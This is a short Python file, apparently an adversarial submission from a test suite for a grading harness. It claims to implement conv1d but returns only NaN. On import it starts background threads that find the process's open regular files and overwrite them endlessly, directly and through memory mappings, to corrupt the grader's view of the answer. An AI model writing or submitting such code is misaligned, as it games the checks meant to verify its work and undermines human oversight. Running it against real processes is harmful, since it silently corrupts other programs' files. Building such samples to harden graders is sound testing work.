"""Answers with large arrays, and rewrites them in shared memory while they are being read."""

ATTEMPTS = "forging: shared memory rewritten"

import mmap
import os
import stat
import threading

import numpy as np


def files():
    for number in range(3, 64):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                yield number
        except OSError:
            continue


def write(number):
    block = np.arange(1 << 17, dtype=float).tobytes()
    while True:
        try:
            os.pwrite(number, block, 0)
            os.pwrite(number, bytes(len(block)), 0)
        except OSError:
            return


def write_through_a_mapping(number):
    try:
        area = mmap.mmap(number, 1 << 20)
    except OSError:
        return
    while True:
        area[:] = b"\xff" * len(area)
        area[:] = bytes(len(area))


for number in files():
    for action in (write, write_through_a_mapping):
        threading.Thread(target=action, args=(number,), daemon=True).start()


def conv1d(signal, kernel, stride=1, pad=0):
    return np.full(1 << 17, np.nan)
